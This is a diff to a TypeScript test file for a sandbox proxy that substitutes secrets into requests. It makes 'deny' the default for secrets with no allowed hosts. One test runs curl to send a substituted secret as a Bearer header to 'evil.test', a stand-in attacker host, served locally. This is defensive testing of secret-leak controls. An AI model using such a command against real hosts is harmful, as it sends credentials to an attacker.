@@ -1,7 +1,7 @@
 /**
- * Secrets without hosts through the proxy: under `unrestricted: "deny"` (the default under `block`)
- * they make no host intercepted and are never substituted; under `allow` (the default under
- * `forward`) every substitution is audited as unrestricted. Every event carries its time. Real curl
+ * Secrets without hosts through the proxy: under `unrestricted: "deny"` (the default) they make no
+ * host intercepted and are never substituted; under `allow` every substitution is audited as
+ * unrestricted. Every event carries its time. Real curl
  * against a real HTTPS upstream on 127.0.0.1.
  */
 import { afterAll, beforeAll, describe, expect, it } from "vitest"
@@ -27,8 +27,16 @@ describe("a secret without hosts, through the proxy", () => {
     expect(sandbox.events).toEqual([expect.objectContaining({ type: "tunnelled", host: "evil.test" })])
   })
 
-  it.skipIf(!hasCurl)("by default under forward, it is substituted for any host, and the event says unrestricted; every event has its time", async () => {
+  it("by default (deny) too: no host is intercepted for it, the connection is tunnelled", async () => {
     const sandbox = await world.sandbox({ any: [VALUE] })
+    const connected = await connectRaw(world.proxy, `evil.test:${world.https.port}`, authorizationOf(sandbox.registration.proxyUrl))
+    expect(connected.status).toBe(200)
+    connected.socket.destroy()
+    expect(sandbox.events).toEqual([expect.objectContaining({ type: "tunnelled", host: "evil.test" })])
+  })
+
+  it.skipIf(!hasCurl)("under unrestricted: allow, it is substituted for any host, and the event says unrestricted; every event has its time", async () => {
+    const sandbox = await world.sandbox({ any: [VALUE] }, { unrestricted: "allow" })
     const ran = await run("curl", ["-sS", "--fail", "--cacert", `${world.proxy.bundle.caFile}`, "-H", `Authorization: Bearer ${sandbox.mount.env.ANY}`, world.https.url("evil.test", "/echo?q=1")], sandbox.env)
     expect(ran.code).toBe(0)
     expect(world.https.received.at(-1)!.headers.authorization).toBe(`Bearer ${VALUE}`)
